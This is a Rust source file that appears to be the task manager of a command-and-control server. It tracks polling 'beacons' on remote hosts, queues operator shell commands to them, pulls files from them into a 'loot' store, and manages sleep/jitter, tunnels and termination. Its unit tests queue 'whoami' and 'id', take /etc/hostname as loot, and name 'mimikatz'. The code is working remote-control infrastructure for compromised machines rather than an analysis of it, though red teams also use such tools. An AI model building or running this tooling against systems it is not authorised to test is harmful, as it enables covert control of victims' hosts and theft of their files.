//! Task lifecycle manager.
//!
//! | Step | Entry point | Effect |
//! |------|-------------|--------|
//! | enqueue | [`TaskManager::create_task`] | new task, `queued` |
//! | poll | [`TaskManager::dispatch`] | queued tasks → envelopes, `dispatched` |
//! | result | [`TaskManager::complete`] | decode + post-process, `completed` / `failed` |
//! | cancel | [`TaskManager::cancel`] | `queued` → `canceled` |
//!
//! Dispatch is at-most-once: a task is marked `dispatched` as soon as it is
//! placed in a poll response, with no acknowledgment linkage. Work for one
//! beacon is serialized by a per-beacon lock so concurrent polls never hand
//! out the same task twice.

pub mod decode;
pub mod types;

use std::collections::HashMap;
use std::sync::Arc;

use thiserror::Error;
use tracing::{info, warn};

use crate::commands::{parse_sleep_args, ServerRegistry};
use crate::loot::LootStore;
use crate::protocol::{BuiltinCommand, TaskEnvelope, TaskResult, UploadOutput};
use crate::store::{Store, StoreError};
use crate::transfer::TransferManager;
use crate::tunnel::TunnelRegistry;
use crate::util::now_ms;

use decode::DecodeChain;
use types::{Beacon, BeaconStatus, Task, TaskOrigin, TaskStatus};

/// Output recorded for an acknowledged `exit`.
pub const EXIT_MARKER: &str = "beacon exited";

#[derive(Debug, Error)]
pub enum TaskError {
    #[error("task '{0}' not found")]
    NotFound(String),
    #[error("task '{task_id}' cannot move from {from:?} to {to:?}")]
    InvalidTransition {
        task_id: String,
        from: TaskStatus,
        to: TaskStatus,
    },
    #[error("unknown command '{0}'")]
    UnknownCommand(String),
    #[error("beacon '{0}' not found")]
    BeaconNotFound(String),
    #[error("beacon '{0}' has exited")]
    BeaconExited(String),
    #[error(transparent)]
    Store(#[from] StoreError),
}

impl TaskError {
    pub fn code(&self) -> &'static str {
        match self {
            Self::NotFound(_) => "TASK_NOT_FOUND",
            Self::InvalidTransition { .. } => "INVALID_TRANSITION",
            Self::UnknownCommand(_) => "UNKNOWN_COMMAND",
            Self::BeaconNotFound(_) => "BEACON_NOT_FOUND",
            Self::BeaconExited(_) => "BEACON_EXITED",
            Self::Store(_) => "STORE_ERROR",
        }
    }
}

/// Id of the synthetic `exit` sent to a beacon marked for termination.
pub fn terminate_task_id(beacon_id: &str) -> String {
    format!("terminate-{beacon_id}")
}

pub struct TaskManager {
    store: Arc<dyn Store>,
    registry: Arc<ServerRegistry>,
    decoder: DecodeChain,
    loot: LootStore,
    transfers: Arc<TransferManager>,
    tunnels: Arc<TunnelRegistry>,
    beacon_locks: parking_lot::Mutex<HashMap<String, Arc<tokio::sync::Mutex<()>>>>,
}

impl TaskManager {
    pub fn new(
        store: Arc<dyn Store>,
        registry: Arc<ServerRegistry>,
        decoder: DecodeChain,
        loot: LootStore,
        transfers: Arc<TransferManager>,
        tunnels: Arc<TunnelRegistry>,
    ) -> Self {
        Self {
            store,
            registry,
            decoder,
            loot,
            transfers,
            tunnels,
            beacon_locks: parking_lot::Mutex::new(HashMap::new()),
        }
    }

    fn beacon_lock(&self, beacon_id: &str) -> Arc<tokio::sync::Mutex<()>> {
        self.beacon_locks
            .lock()
            .entry(beacon_id.to_string())
            .or_default()
            .clone()
    }

    /// Record a poll: create the beacon on first contact, refresh `last_seen`
    /// and, when reported, the `(sleep_secs, jitter_pct)` interval.
    pub fn touch_beacon(
        &self,
        beacon_id: &str,
        hostname: &str,
        sleep: Option<(u64, u8)>,
    ) -> Beacon {
        let now = now_ms();
        let mut beacon = match self.store.get_beacon(beacon_id) {
            Some(mut b) => {
                if b.status == BeaconStatus::Exited {
                    info!(beacon_id, "Exited beacon checked in again, reactivating");
                    b.status = BeaconStatus::Active;
                }
                if !hostname.is_empty() {
                    b.hostname = hostname.to_string();
                }
                b.last_seen = now;
                b
            }
            None => {
                info!(beacon_id, hostname, "New beacon");
                Beacon {
                    beacon_id: beacon_id.to_string(),
                    hostname: hostname.to_string(),
                    sleep_secs: 0,
                    jitter_pct: 0,
                    status: BeaconStatus::Active,
                    first_seen: now,
                    last_seen: now,
                }
            }
        };
        if let Some((secs, jitter)) = sleep {
            beacon.sleep_secs = secs;
            beacon.jitter_pct = jitter.min(100);
        }
        self.store.upsert_beacon(beacon.clone());
        beacon
    }

    pub fn create_task(
        &self,
        beacon_id: &str,
        command: &str,
        arguments: Vec<u8>,
        origin: TaskOrigin,
    ) -> Result<Task, TaskError> {
        if self.registry.resolve_name(command).is_none() {
            return Err(TaskError::UnknownCommand(command.to_string()));
        }
        let beacon = self
            .store
            .get_beacon(beacon_id)
            .ok_or_else(|| TaskError::BeaconNotFound(beacon_id.to_string()))?;
        if beacon.status == BeaconStatus::Exited {
            return Err(TaskError::BeaconExited(beacon_id.to_string()));
        }

        let now = now_ms();
        let task = Task {
            task_id: uuid::Uuid::new_v4().to_string(),
            beacon_id: beacon_id.to_string(),
            command: command.to_string(),
            arguments,
            status: TaskStatus::Queued,
            output: String::new(),
            origin,
            created_at: now,
            updated_at: now,
        };
        self.store.create_task(task.clone())?;
        info!(task_id = %task.task_id, beacon_id, command, "Task queued");
        Ok(task)
    }

    /// Build the task half of a poll response for `beacon_id`.
    pub async fn dispatch(&self, beacon_id: &str) -> Vec<TaskEnvelope> {
        let lock = self.beacon_lock(beacon_id);
        let _guard = lock.lock().await;

        if let Some(beacon) = self.store.get_beacon(beacon_id) {
            match beacon.status {
                BeaconStatus::Terminating => {
                    info!(beacon_id, "Sending termination exit");
                    return vec![TaskEnvelope {
                        task_id: terminate_task_id(beacon_id),
                        command_id: BuiltinCommand::Exit.id(),
                        arguments: Vec::new(),
                    }];
                }
                BeaconStatus::Exited => return Vec::new(),
                BeaconStatus::Active => {}
            }
        }

        let mut batch = Vec::new();
        for mut task in self.store.get_tasks_by_beacon(beacon_id, Some(TaskStatus::Queued)) {
            let Some(desc) = self.registry.resolve_name(&task.command) else {
                warn!(task_id = %task.task_id, command = %task.command, "Unresolvable command, leaving queued");
                continue;
            };

            let converted = desc.handler.convert(&task).await;
            if let Err(e) = transition(&mut task, TaskStatus::Dispatched) {
                warn!(task_id = %task.task_id, "Skipping task: {e}");
                continue;
            }
            match converted {
                Ok(arguments) => {
                    batch.push(TaskEnvelope {
                        task_id: task.task_id.clone(),
                        command_id: desc.id,
                        arguments,
                    });
                }
                Err(e) => {
                    warn!(task_id = %task.task_id, command = %task.command, error = %e, "Conversion failed");
                    task.output = format!("conversion failed: {e}");
                    // Dispatched → Failed is always a valid edge.
                    let _ = transition(&mut task, TaskStatus::Failed);
                }
            }
            if let Err(e) = self.store.update_task(&task) {
                warn!(task_id = %task.task_id, "Failed to persist dispatch: {e}");
            }
        }

        if !batch.is_empty() {
            info!(beacon_id, count = batch.len(), "Dispatched tasks");
        }
        batch
    }

    /// Apply one result submitted by `beacon_id`.
    ///
    /// Returns `Ok(None)` for the acknowledgment of a synthetic termination
    /// exit, which has no stored task.
    pub async fn complete(
        &self,
        beacon_id: &str,
        result: TaskResult,
    ) -> Result<Option<Task>, TaskError> {
        let lock = self.beacon_lock(beacon_id);
        let _guard = lock.lock().await;

        if result.task_id == terminate_task_id(beacon_id) {
            let terminating = self
                .store
                .get_beacon(beacon_id)
                .is_some_and(|b| b.status == BeaconStatus::Terminating);
            if !terminating {
                return Err(TaskError::NotFound(result.task_id));
            }
            self.mark_exited(beacon_id).await;
            return Ok(None);
        }

        let mut task = self
            .store
            .get_task(&result.task_id)
            .filter(|t| t.beacon_id == beacon_id)
            .ok_or_else(|| TaskError::NotFound(result.task_id.clone()))?;

        let target = if result.error.is_some() {
            TaskStatus::Failed
        } else {
            TaskStatus::Completed
        };
        if !task.status.can_transition_to(target) {
            return Err(TaskError::InvalidTransition {
                task_id: task.task_id,
                from: task.status,
                to: target,
            });
        }

        let (text, decoder) = self.decoder.decode(&result.output);
        tracing::debug!(task_id = %task.task_id, decoder, "Decoded output");

        let command = BuiltinCommand::from_name(&task.command);
        if command == Some(BuiltinCommand::Download) {
            self.transfers.finish(&task.task_id).await;
        }

        let outcome = match (&result.error, command) {
            (Some(err), _) => Err(if text.is_empty() { err.clone() } else { text }),
            (None, Some(cmd)) => self.post_process(cmd, &task, &result.output, text).await,
            (None, None) => Ok(text),
        };

        let final_status = match outcome {
            Ok(output) => {
                task.output = output;
                TaskStatus::Completed
            }
            Err(output) => {
                task.output = output;
                TaskStatus::Failed
            }
        };
        transition(&mut task, final_status)?;
        self.store.update_task(&task)?;

        info!(
            task_id = %task.task_id,
            beacon_id,
            command = %task.command,
            status = task.status.as_str(),
            "Task finished"
        );
        Ok(Some(task))
    }

    /// Command-specific handling of a successful result. `Err` carries the
    /// failure text recorded as output.
    async fn post_process(
        &self,
        cmd: BuiltinCommand,
        task: &Task,
        raw: &[u8],
        text: String,
    ) -> Result<String, String> {
        match cmd {
            BuiltinCommand::Upload => {
                let upload: UploadOutput = serde_json::from_slice(raw)
                    .map_err(|e| format!("malformed upload output: {e}"))?;
                let record = self
                    .loot
                    .save(&task.task_id, &upload.filename, &upload.content)
                    .await
                    .map_err(|e| format!("failed to store loot: {e}"))?;
                Ok(format!(
                    "saved {} ({} bytes, sha256 {}) to {}",
                    upload.filename,
                    record.size,
                    record.sha256,
                    record.path.display()
                ))
            }
            BuiltinCommand::Exit => {
                self.mark_exited(&task.beacon_id).await;
                Ok(EXIT_MARKER.to_string())
            }
            BuiltinCommand::Sleep => {
                let args = String::from_utf8_lossy(&task.arguments);
                let (secs, jitter) = parse_sleep_args(&args)?;
                let mut beacon = self
                    .store
                    .get_beacon(&task.beacon_id)
                    .ok_or_else(|| format!("beacon '{}' not found", task.beacon_id))?;
                beacon.sleep_secs = secs;
                if let Some(j) = jitter {
                    beacon.jitter_pct = j;
                }
                self.store
                    .update_beacon(&beacon)
                    .map_err(|e| e.to_string())?;
                Ok(text)
            }
            BuiltinCommand::Shell | BuiltinCommand::Download => Ok(text),
        }
    }

    async fn mark_exited(&self, beacon_id: &str) {
        if let Some(mut beacon) = self.store.get_beacon(beacon_id) {
            beacon.status = BeaconStatus::Exited;
            if let Err(e) = self.store.update_beacon(&beacon) {
                warn!(beacon_id, "Failed to mark beacon exited: {e}");
            }
        }
        self.tunnels.close_beacon(beacon_id).await;
        info!(beacon_id, "Beacon exited");
    }

    /// Cancel a task that has not been dispatched yet.
    pub async fn cancel(&self, task_id: &str) -> Result<Task, TaskError> {
        let beacon_id = self
            .store
            .get_task(task_id)
            .ok_or_else(|| TaskError::NotFound(task_id.to_string()))?
            .beacon_id;
        let lock = self.beacon_lock(&beacon_id);
        let _guard = lock.lock().await;

        let mut task = self
            .store
            .get_task(task_id)
            .ok_or_else(|| TaskError::NotFound(task_id.to_string()))?;
        transition(&mut task, TaskStatus::Canceled)?;
        self.store.update_task(&task)?;
        info!(task_id, beacon_id = %task.beacon_id, "Task canceled");
        Ok(task)
    }

    /// Mark a beacon so its next poll receives an `exit`.
    pub fn terminate_beacon(&self, beacon_id: &str) -> Result<Beacon, TaskError> {
        let mut beacon = self
            .store
            .get_beacon(beacon_id)
            .ok_or_else(|| TaskError::BeaconNotFound(beacon_id.to_string()))?;
        if beacon.status == BeaconStatus::Exited {
            return Err(TaskError::BeaconExited(beacon_id.to_string()));
        }
        beacon.status = BeaconStatus::Terminating;
        self.store.update_beacon(&beacon)?;
        info!(beacon_id, "Beacon marked for termination");
        Ok(beacon)
    }

    pub fn get_task(&self, task_id: &str) -> Option<Task> {
        self.store.get_task(task_id)
    }

    pub fn list_tasks(&self, beacon_id: &str) -> Vec<Task> {
        self.store.get_tasks_by_beacon(beacon_id, None)
    }

    pub fn get_beacon(&self, beacon_id: &str) -> Option<Beacon> {
        self.store.get_beacon(beacon_id)
    }

    pub fn list_beacons(&self) -> Vec<Beacon> {
        self.store.list_beacons()
    }

    /// Registered `(id, name)` pairs, for display.
    pub fn commands(&self) -> Vec<(u32, String)> {
        self.registry.entries()
    }
}

fn transition(task: &mut Task, next: TaskStatus) -> Result<(), TaskError> {
    if !task.status.can_transition_to(next) {
        return Err(TaskError::InvalidTransition {
            task_id: task.task_id.clone(),
            from: task.status,
            to: next,
        });
    }
    task.status = next;
    task.updated_at = now_ms();
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::commands::builtin_registry;
    use crate::config::{TransferConfig, TunnelConfig};
    use crate::protocol::DownloadPayload;
    use crate::store::MemoryStore;
    use crate::tunnel::TunnelStatus;

    struct Fixture {
        tasks: TaskManager,
        tunnels: Arc<TunnelRegistry>,
        transfers: Arc<TransferManager>,
        dir: tempfile::TempDir,
    }

    fn fixture() -> Fixture {
        let dir = tempfile::tempdir().unwrap();
        let transfers = Arc::new(TransferManager::new(TransferConfig {
            min_chunk_size: 1,
            ..TransferConfig::default()
        }));
        let tunnels = Arc::new(TunnelRegistry::new(TunnelConfig::default()));
        let registry = Arc::new(builtin_registry(transfers.clone()).unwrap());
        let tasks = TaskManager::new(
            Arc::new(MemoryStore::new()),
            registry,
            DecodeChain::with_legacy("gbk"),
            LootStore::new(dir.path().join("loot")),
            transfers.clone(),
            tunnels.clone(),
        );
        tasks.touch_beacon("b1", "host-1", None);
        Fixture {
            tasks,
            tunnels,
            transfers,
            dir,
        }
    }

    fn operator() -> TaskOrigin {
        TaskOrigin::Operator("alice".into())
    }

    #[tokio::test]
    async fn shell_task_is_dispatched_once() {
        let f = fixture();
        let task = f
            .tasks
            .create_task("b1", "shell", b"whoami".to_vec(), operator())
            .unwrap();

        let batch = f.tasks.dispatch("b1").await;
        assert_eq!(batch.len(), 1);
        assert_eq!(batch[0].command_id, 1);
        assert_eq!(batch[0].arguments, b"whoami");
        assert_eq!(
            f.tasks.get_task(&task.task_id).unwrap().status,
            TaskStatus::Dispatched
        );
        assert!(f.tasks.dispatch("b1").await.is_empty());
    }

    #[tokio::test]
    async fn completion_decodes_and_finishes() {
        let f = fixture();
        let task = f
            .tasks
            .create_task("b1", "shell", b"whoami".to_vec(), operator())
            .unwrap();
        f.tasks.dispatch("b1").await;

        // GBK bytes from a legacy console.
        let done = f
            .tasks
            .complete("b1", TaskResult::ok(&task.task_id, vec![0xD6, 0xD0, 0xCE, 0xC4]))
            .await
            .unwrap()
            .unwrap();
        assert_eq!(done.status, TaskStatus::Completed);
        assert_eq!(done.output, "中文");
    }

    #[tokio::test]
    async fn unknown_or_repeated_results_are_rejected() {
        let f = fixture();
        let err = f
            .tasks
            .complete("b1", TaskResult::ok("ghost", b"x".to_vec()))
            .await
            .unwrap_err();
        assert!(matches!(err, TaskError::NotFound(_)));

        let task = f
            .tasks
            .create_task("b1", "shell", b"id".to_vec(), operator())
            .unwrap();
        f.tasks.dispatch("b1").await;
        f.tasks
            .complete("b1", TaskResult::ok(&task.task_id, b"uid=0".to_vec()))
            .await
            .unwrap();

        let err = f
            .tasks
            .complete("b1", TaskResult::ok(&task.task_id, b"again".to_vec()))
            .await
            .unwrap_err();
        assert!(matches!(
            err,
            TaskError::InvalidTransition {
                from: TaskStatus::Completed,
                ..
            }
        ));
        assert_eq!(f.tasks.get_task(&task.task_id).unwrap().output, "uid=0");
    }

    #[tokio::test]
    async fn result_before_dispatch_is_rejected() {
        let f = fixture();
        let task = f
            .tasks
            .create_task("b1", "shell", b"id".to_vec(), operator())
            .unwrap();
        let err = f
            .tasks
            .complete("b1", TaskResult::ok(&task.task_id, b"x".to_vec()))
            .await
            .unwrap_err();
        assert!(matches!(err, TaskError::InvalidTransition { .. }));
        assert_eq!(
            f.tasks.get_task(&task.task_id).unwrap().status,
            TaskStatus::Queued
        );
    }

    #[tokio::test]
    async fn result_from_another_beacon_is_not_found() {
        let f = fixture();
        f.tasks.touch_beacon("b2", "host-2", None);
        let task = f
            .tasks
            .create_task("b1", "shell", b"id".to_vec(), operator())
            .unwrap();
        f.tasks.dispatch("b1").await;
        assert!(matches!(
            f.tasks
                .complete("b2", TaskResult::ok(&task.task_id, b"x".to_vec()))
                .await,
            Err(TaskError::NotFound(_))
        ));
    }

    #[tokio::test]
    async fn beacon_error_fails_the_task() {
        let f = fixture();
        let task = f
            .tasks
            .create_task("b1", "shell", b"false".to_vec(), operator())
            .unwrap();
        f.tasks.dispatch("b1").await;
        let done = f
            .tasks
            .complete("b1", TaskResult::failed(&task.task_id, "exit status 1"))
            .await
            .unwrap()
            .unwrap();
        assert_eq!(done.status, TaskStatus::Failed);
        assert_eq!(done.output, "exit status 1");
    }

    #[tokio::test]
    async fn cancel_only_while_queued() {
        let f = fixture();
        let a = f
            .tasks
            .create_task("b1", "shell", b"a".to_vec(), operator())
            .unwrap();
        let canceled = f.tasks.cancel(&a.task_id).await.unwrap();
        assert_eq!(canceled.status, TaskStatus::Canceled);
        assert!(f.tasks.dispatch("b1").await.is_empty());

        let b = f
            .tasks
            .create_task("b1", "shell", b"b".to_vec(), operator())
            .unwrap();
        f.tasks.dispatch("b1").await;
        assert!(matches!(
            f.tasks.cancel(&b.task_id).await,
            Err(TaskError::InvalidTransition { .. })
        ));
    }

    #[tokio::test]
    async fn unknown_commands_are_refused_at_creation() {
        let f = fixture();
        assert!(matches!(
            f.tasks.create_task("b1", "mimikatz", vec![], operator()),
            Err(TaskError::UnknownCommand(_))
        ));
        assert!(matches!(
            f.tasks.create_task("nobody", "shell", vec![], operator()),
            Err(TaskError::BeaconNotFound(_))
        ));
    }

    #[tokio::test]
    async fn conversion_failure_fails_task_but_not_batch() {
        let f = fixture();
        let bad = f
            .tasks
            .create_task("b1", "sleep", b"forever".to_vec(), TaskOrigin::Policy)
            .unwrap();
        let good = f
            .tasks
            .create_task("b1", "shell", b"id".to_vec(), operator())
            .unwrap();

        let batch = f.tasks.dispatch("b1").await;
        assert_eq!(batch.len(), 1);
        assert_eq!(batch[0].task_id, good.task_id);

        let bad = f.tasks.get_task(&bad.task_id).unwrap();
        assert_eq!(bad.status, TaskStatus::Failed);
        assert!(bad.output.starts_with("conversion failed"));
    }

    #[tokio::test]
    async fn sleep_result_updates_beacon() {
        let f = fixture();
        let task = f
            .tasks
            .create_task("b1", "sleep", b"45 30".to_vec(), operator())
            .unwrap();
        f.tasks.dispatch("b1").await;
        f.tasks
            .complete("b1", TaskResult::ok(&task.task_id, Vec::new()))
            .await
            .unwrap();
        let beacon = f.tasks.get_beacon("b1").unwrap();
        assert_eq!(beacon.sleep_secs, 45);
        assert_eq!(beacon.jitter_pct, 30);
    }

    #[test]
    fn touch_records_reported_interval() {
        let f = fixture();
        assert_eq!(f.tasks.get_beacon("b1").unwrap().sleep_secs, 0);

        let beacon = f.tasks.touch_beacon("b1", "", Some((90, 10)));
        assert_eq!((beacon.sleep_secs, beacon.jitter_pct), (90, 10));
        assert_eq!(beacon.hostname, "host-1");

        let beacon = f.tasks.touch_beacon("b9", "host-9", Some((5, 250)));
        assert_eq!((beacon.sleep_secs, beacon.jitter_pct), (5, 100));
    }

    #[tokio::test]
    async fn upload_result_lands_in_loot() {
        let f = fixture();
        let task = f
            .tasks
            .create_task("b1", "upload", b"/etc/hostname".to_vec(), operator())
            .unwrap();
        f.tasks.dispatch("b1").await;

        let out = serde_json::to_vec(&UploadOutput {
            filename: "/etc/hostname".into(),
            content: b"box\n".to_vec(),
        })
        .unwrap();
        let done = f
            .tasks
            .complete("b1", TaskResult::ok(&task.task_id, out))
            .await
            .unwrap()
            .unwrap();
        assert_eq!(done.status, TaskStatus::Completed);

        let stored = f
            .dir
            .path()
            .join("loot")
            .join(format!("{}_hostname", task.task_id));
        assert_eq!(std::fs::read(stored).unwrap(), b"box\n");
    }

    #[tokio::test]
    async fn malformed_upload_output_fails_task() {
        let f = fixture();
        let task = f
            .tasks
            .create_task("b1", "upload", b"/etc/hostname".to_vec(), operator())
            .unwrap();
        f.tasks.dispatch("b1").await;
        let done = f
            .tasks
            .complete("b1", TaskResult::ok(&task.task_id, b"not json".to_vec()))
            .await
            .unwrap()
            .unwrap();
        assert_eq!(done.status, TaskStatus::Failed);
        assert!(done.output.contains("malformed upload output"));
    }

    #[tokio::test]
    async fn exit_marks_beacon_and_closes_tunnels() {
        let f = fixture();
        let tunnel = f.tunnels.start("b1", "10.0.0.5:22", "alice").await.unwrap();
        let task = f
            .tasks
            .create_task("b1", "exit", Vec::new(), operator())
            .unwrap();
        f.tasks.dispatch("b1").await;
        let done = f
            .tasks
            .complete("b1", TaskResult::ok(&task.task_id, Vec::new()))
            .await
            .unwrap()
            .unwrap();
        assert_eq!(done.output, EXIT_MARKER);
        assert_eq!(f.tasks.get_beacon("b1").unwrap().status, BeaconStatus::Exited);
        assert_eq!(
            f.tunnels.get(&tunnel.tunnel_id).await.unwrap().status,
            TunnelStatus::Closed
        );
        assert!(f.tasks.dispatch("b1").await.is_empty());
    }

    #[tokio::test]
    async fn terminating_beacon_gets_synthetic_exit() {
        let f = fixture();
        let queued = f
            .tasks
            .create_task("b1", "shell", b"id".to_vec(), operator())
            .unwrap();
        f.tasks.terminate_beacon("b1").unwrap();

        let batch = f.tasks.dispatch("b1").await;
        assert_eq!(batch.len(), 1);
        assert_eq!(batch[0].task_id, "terminate-b1");
        assert_eq!(batch[0].command_id, BuiltinCommand::Exit.id());
        assert!(f.tasks.get_task("terminate-b1").is_none());
        assert_eq!(
            f.tasks.get_task(&queued.task_id).unwrap().status,
            TaskStatus::Queued
        );

        let ack = f
            .tasks
            .complete("b1", TaskResult::ok("terminate-b1", Vec::new()))
            .await
            .unwrap();
        assert!(ack.is_none());
        assert_eq!(f.tasks.get_beacon("b1").unwrap().status, BeaconStatus::Exited);
    }

    #[tokio::test]
    async fn unsolicited_termination_ack_is_ignored() {
        let f = fixture();
        let tunnel = f.tunnels.start("b1", "10.0.0.5:22", "op").await.unwrap();

        let err = f
            .tasks
            .complete("b1", TaskResult::ok("terminate-b1", Vec::new()))
            .await
            .unwrap_err();
        assert!(matches!(err, TaskError::NotFound(_)));
        assert_eq!(f.tasks.get_beacon("b1").unwrap().status, BeaconStatus::Active);
        assert_ne!(
            f.tunnels.get(&tunnel.tunnel_id).await.unwrap().status,
            TunnelStatus::Closed
        );

        // Another beacon's termination id is not this beacon's.
        f.tasks.terminate_beacon("b1").unwrap();
        assert!(f
            .tasks
            .complete("b1", TaskResult::ok("terminate-b2", Vec::new()))
            .await
            .is_err());
        assert_eq!(
            f.tasks.get_beacon("b1").unwrap().status,
            BeaconStatus::Terminating
        );
    }

    #[tokio::test]
    async fn download_dispatch_and_completion_release_transfer() {
        let f = fixture();
        let src = f.dir.path().join("data.bin");
        std::fs::write(&src, vec![7u8; 100]).unwrap();
        let args = serde_json::json!({
            "source": src.to_str().unwrap(),
            "destination": "/tmp/data.bin",
            "chunk_size": 40,
        });
        let task = f
            .tasks
            .create_task("b1", "download", args.to_string().into_bytes(), operator())
            .unwrap();

        let batch = f.tasks.dispatch("b1").await;
        let payload: DownloadPayload = serde_json::from_slice(&batch[0].arguments).unwrap();
        assert_eq!(payload.file_size, 100);
        assert_eq!(f.transfers.list().await.len(), 1);

        f.tasks
            .complete("b1", TaskResult::ok(&task.task_id, b"ok".to_vec()))
            .await
            .unwrap();
        assert!(f.transfers.list().await.is_empty());
    }

    #[tokio::test]
    async fn tasks_dispatch_in_creation_order() {
        let f = fixture();
        let ids: Vec<String> = (0..4)
            .map(|i| {
                f.tasks
                    .create_task("b1", "shell", format!("echo {i}").into_bytes(), operator())
                    .unwrap()
                    .task_id
            })
            .collect();
        let batch = f.tasks.dispatch("b1").await;
        let got: Vec<String> = batch.into_iter().map(|e| e.task_id).collect();
        assert_eq!(got, ids);
    }
}
